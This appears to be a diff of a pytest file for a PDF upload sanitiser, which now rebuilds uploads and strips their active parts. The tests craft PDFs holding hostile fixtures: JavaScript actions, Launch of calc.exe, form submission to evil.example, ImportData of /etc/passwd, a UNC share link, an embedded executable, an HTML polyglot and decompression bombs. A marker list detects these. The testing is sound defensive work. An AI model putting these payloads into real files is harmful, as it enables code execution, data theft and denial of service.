@@ -1,20 +1,23 @@
 import base64
 import io
+import zlib
 
 import pypdfium2
 import pytest
-from pypdf import PdfWriter
+from pypdf import PdfReader, PdfWriter
 from pypdf.generic import (
     ArrayObject,
     BooleanObject,
     DictionaryObject,
+    IndirectObject,
     NameObject,
     PdfObject,
     TextStringObject,
 )
 
-from guides.pdf import upload
-from guides.pdf.upload import PdfRefused, pdf_check
+from guides.pdf import active_parts, upload
+from guides.pdf.upload import PdfRefused, PdfUpload, pdf_rebuild
+from tests.guides.pdf.test_layout import built
 
 # Written by qpdf: the cross-reference table comes first, for page-by-page loading.
 LINEARIZED = """
@@ -49,23 +52,26 @@ def file_of(pdf: PdfWriter) -> io.BytesIO:
     return file
 
 
+def rebuilt(content: bytes) -> PdfUpload:
+    return pdf_rebuild(io.BytesIO(content), len(content))
+
+
 def accept(content: bytes) -> None:
-    """Asserts that the PDF is accepted and that a reader opens it."""
-    pdf_check(io.BytesIO(content), len(content))
-    with pypdfium2.PdfDocument(content) as opened:
+    """Asserts that the PDF is accepted and that a reader opens what it becomes."""
+    with pypdfium2.PdfDocument(rebuilt(content).content) as opened:
         assert len(opened) == 1
 
 
 def refusal(file: io.BytesIO) -> str:
     with pytest.raises(PdfRefused) as caught:
-        pdf_check(file, len(file.getvalue()))
+        pdf_rebuild(file, len(file.getvalue()))
     return str(caught.value)
 
 
 def test_plain_pdf_is_accepted_and_rewound() -> None:
     file = file_of(writer())
 
-    pdf_check(file, len(file.getvalue()))
+    pdf_rebuild(file, len(file.getvalue()))
 
     assert file.tell() == 0
 
@@ -106,13 +112,6 @@ def test_pdf_encrypted_with_empty_password_is_accepted(algorithm: str) -> None:
     pdf.encrypt("", "owner", algorithm=algorithm)
 
     accept(file_of(pdf).getvalue())
-
-
-def test_script_in_encrypted_pdf_is_found() -> None:
-    pdf = with_script()
-    pdf.encrypt("", "owner", algorithm="AES-256")
-
-    assert refusal(file_of(pdf)).startswith("This PDF holds a script")
 
 
 def test_certificate_encryption_is_refused() -> None:
@@ -185,39 +184,188 @@ def test_pdf_with_too_many_pages_is_refused() -> None:
 
 def test_too_large_file_is_refused_unread() -> None:
     with pytest.raises(PdfRefused, match="larger than 10 MB"):
-        pdf_check(io.BytesIO(), upload.LARGEST + 1)
+        pdf_rebuild(io.BytesIO(), upload.LARGEST + 1)
 
 
 def test_pdf_with_too_many_objects_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(upload, "MOST_OBJECTS", 3)
+    monkeypatch.setattr(active_parts, "MOST_OBJECTS", 3)
 
     assert refusal(file_of(writer(pages=5))) == (
         "This PDF is too complicated. Print it to a new PDF."
     )
 
 
-def with_script() -> PdfWriter:
-    pdf = writer()
-    script = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
-    action = DictionaryObject({NameObject(key): value for key, value in script.items()})
-    pdf.root_object[NameObject("/OpenAction")] = pdf._add_object(action)
-    return pdf
+# What PDFs can do besides showing pages
+
+SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
+SHARE = rb"(\\\\198.51.100.7\\share\\a.pdf)"
+ACTS = {
+    "script when opened": {"root": b"/OpenAction " + SCRIPT},
+    "script by reference": {"root": b"/OpenAction 9 0 R", "more": SCRIPT},
+    "script by an escaped name": {"root": b"/OpenAction <</S/Java#53cript/J#53(app.alert)>>"},
+    "script of the document": {"root": b"/Names<</JavaScript<</Names[(a)" + SCRIPT + b"]>>>>"},
+    "script when closed": {"root": b"/AA<</WC " + SCRIPT + b">>"},
+    "script of a page": {"page": b"/AA<</O " + SCRIPT + b">>"},
+    "program": {"link": b"/A<</S/Launch/F(calc.exe)>>"},
+    "program by reference": {"link": b"/A 9 0 R", "more": b"<</S 10 0 R/F(calc.exe)>>"},
+    "program after a link": {
+        "link": b"/A<</S/URI/URI(https://example.org)/Next<</S/Launch/F(calc.exe)>>>>"
+    },
+    "program after others": {
+        "link": b"/A<</S/URI/URI(https://example.org)/Next[<</S/GoTo/D 0>><</S/Launch/F(a)>>]>>"
+    },
+    "program of a bookmark": {
+        "root": b"/Outlines<</First 9 0 R/Last 9 0 R/Count 1>>",
+        "more": b"<</Title(Read me)/A<</S/Launch/F(calc.exe)>>>>",
+    },
+    "form that sends": {"link": b"/A<</S/SubmitForm/F(https://evil.example/)>>"},
+    "form that reads a file": {"link": b"/A<</S/ImportData/F(/etc/passwd)>>"},
+    "file elsewhere": {"link": b"/A<</S/GoToR/F" + SHARE + b"/D[0/Fit]>>"},
+    "file inside": {"link": b"/A<</S/GoToE/T<</R/C/N(a)>>>>"},
+    "address of a share": {"link": b"/A<</S/URI/URI(file://198.51.100.7/share)>>"},
+    "address of a script": {"link": b"/A<</S/URI/URI(javascript:alert\\(1\\))>>"},
+    "address when shown": {"link": b"/PA<</S/URI/URI(https://evil.example/)>>"},
+    "attached file": {
+        "root": b"/Names<</EmbeddedFiles<</Names[(a.exe)9 0 R]>>>>",
+        "more": b"<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>",
+    },
+    "associated file": {"root": b"/AF[9 0 R]", "more": b"<</Type/Filespec/EF<</F 11 0 R>>>>"},
+    "attachment on the page": {
+        "page": b"/Annots[<</Subtype/FileAttachment/FS<</F(a)/EF<</F 11 0 R>>>>>>]"
+    },
+    "film": {"page": b"/Annots[<</Subtype/RichMedia/RichMediaContent<<>>>>]"},
+    "sound": {"page": b"/Annots[<</Subtype/Screen/A<</S/Rendition/OP 0/JS(app)>>>>]"},
+    "Adobe's forms": {"root": b"/AcroForm<</Fields[]/XFA(<xdp/>)>>"},
+    "content of another file": {"page": b"/Resources<</XObject<</X 11 0 R>>>>"},
+    "collection": {"root": b"/Collection<</View/H>>"},
+}
+STREAM = (
+    b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/F"
+    + SHARE
+    + b"/Ref<</F"
+    + SHARE
+    + b">>/Length 2>>stream\nMZ\nendstream"
+)
+TRACES = (
+    b"JavaScript", b"Java#53cript", b"app.alert", b"Launch", b"calc.exe", b"SubmitForm",
+    b"ImportData", b"GoToR", b"GoToE", b"198.51.100.7", b"file:", b"javascript:", b"evil.example",
+    b"EmbeddedFile", b"Filespec", b"/EF", b"/AF", b"/AA", b"FileAttachment", b"RichMedia",
+    b"Rendition", b"XFA", b"OpenAction", b"Collection", b"/Ref",
+)  # fmt: skip
 
 
-def test_a_script_is_refused() -> None:
-    assert refusal(file_of(with_script())) == (
-        "This PDF holds a script or starts a program. Save it as a plain PDF."
+def crafted(
+    *, root: bytes = b"", page: bytes = b"", link: bytes = b"", more: bytes = b"null"
+) -> bytes:
+    """A PDF of one page with a link, written by hand. Objects 9 to 11 stand unused."""
+    objects = {
+        1: b"<</Type/Catalog/Pages 2 0 R" + root + b">>",
+        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]" + (page or b"/Annots[4 0 R]") + b">>",
+        4: b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]" + link + b">>",
+        9: more,
+        10: b"/Launch",
+        11: STREAM,
+    }
+    written, offsets = b"%PDF-1.7\n", {}
+    for number, content in objects.items():
+        offsets[number] = len(written)
+        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
+    table = b"".join(b"%d 1\n%010d 00000 n \n" % each for each in offsets.items())
+    start = len(written)
+    return written + b"xref\n%strailer<</Root 1 0 R/Size 12>>\nstartxref\n%d\n%%%%EOF" % (
+        table,
+        start,
     )
 
 
-def test_launch_action_is_refused() -> None:
-    pdf = writer()
-    action = DictionaryObject(
-        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
-    )
-    annotation = DictionaryObject({NameObject("/A"): pdf._add_object(action)})
-    pdf.pages[0][NameObject("/Annots")] = ArrayObject([pdf._add_object(annotation)])
+@pytest.mark.parametrize("name", ACTS)
+def test_whatever_acts_is_left_out(name: str) -> None:
+    before = crafted(**ACTS[name])
+    assert any(trace in before for trace in TRACES)
 
-    assert refusal(file_of(pdf)) == (
-        "This PDF holds a script or starts a program. Save it as a plain PDF."
-    )
+    upload = rebuilt(before)
+
+    assert upload.left_out
+    assert [trace for trace in TRACES if trace in upload.content] == []
+    accept(upload.content)
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        b"/A<</S/URI/URI(https://example.org/a)>>",
+        b"/A<</S/URI/URI(mailto:pt@example.org)>>",
+        b"/A<</S/GoTo/D[3 0 R/Fit]>>",
+        b"/Dest[3 0 R/Fit]",
+        b"/A<</S/Named/N/NextPage>>",
+    ],
+)
+def test_links_stay(link: bytes) -> None:
+    upload = rebuilt(crafted(link=link))
+
+    assert not upload.left_out
+    annotations = PdfReader(io.BytesIO(upload.content)).pages[0].annotations
+    assert annotations is not None
+    assert {"/A", "/Dest"} & {*annotations[0].get_object()}
+
+
+def test_a_page_for_browsers_in_a_pdf_is_left_out() -> None:
+    content = b"<!doctype html><script src=//evil.example></script>\n" + crafted()
+
+    upload = rebuilt(content + b"<script>alert(1)</script>")
+
+    assert upload.content.startswith(b"%PDF-1.7")
+    assert b"script" not in upload.content
+
+
+def test_bookmarks_and_structure_stay() -> None:
+    """Screen readers read the structure."""
+    content = built("mobility_first", "a4")
+
+    before, after = (PdfReader(io.BytesIO(each)) for each in (content, rebuilt(content).content))
+
+    assert [page.extract_text() for page in after.pages] == [p.extract_text() for p in before.pages]
+    assert [str(each) for each in shape(after)] == [str(each) for each in shape(before)]
+    for key in ("/Lang", "/MarkInfo"):
+        assert after.root_object[key] == before.root_object[key]
+    assert len(after.outline) == len(before.outline) > 3
+
+
+def shape(reader: PdfReader) -> list[object]:
+    """Types of the structure's elements, in order of reading."""
+    found: list[object] = []
+    pending: list[object] = [reader.root_object["/StructTreeRoot"]]
+    while pending:
+        element = pending.pop()
+        element = element.get_object() if isinstance(element, IndirectObject) else element
+        if isinstance(element, ArrayObject):
+            pending.extend(reversed(element))
+        elif isinstance(element, DictionaryObject):
+            found.append((element.get("/S"), element.get("/Alt")))
+            pending.append(element.get("/K"))
+    return found
+
+
+def test_content_that_unpacks_to_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(active_parts, "MOST_BYTES", 1_000_000)
+    packed = zlib.compress(b" " * 1_100_000)
+    page = b"/Contents 9 0 R"
+    stream = b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
+
+    assert refusal(io.BytesIO(crafted(page=page, more=stream))).startswith("This PDF is too compl")
+
+
+def test_a_bomb_is_refused() -> None:
+    """Ten kilobytes that unpack to ten gigabytes."""
+    packed = zlib.compress(zlib.compress(b"\0" * 100_000_000, 9), 9)
+    stream = b"<</Filter[/Fl/FlateDecode]/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
+
+    assert refusal(io.BytesIO(crafted(page=b"/Contents 9 0 R", more=stream))).startswith("This PDF")
+
+
+def test_a_picture_larger_than_memory_is_refused() -> None:
+    picture = b"<</Subtype/Image/Width 99999/Height 99999/Filter/DCTDecode/Length 1>>stream\n\xff\nendstream"
+    page = b"/Resources<</XObject<</X 9 0 R>>>>"
+
+    assert refusal(io.BytesIO(crafted(page=page, more=picture))).startswith("This PDF is too compl")
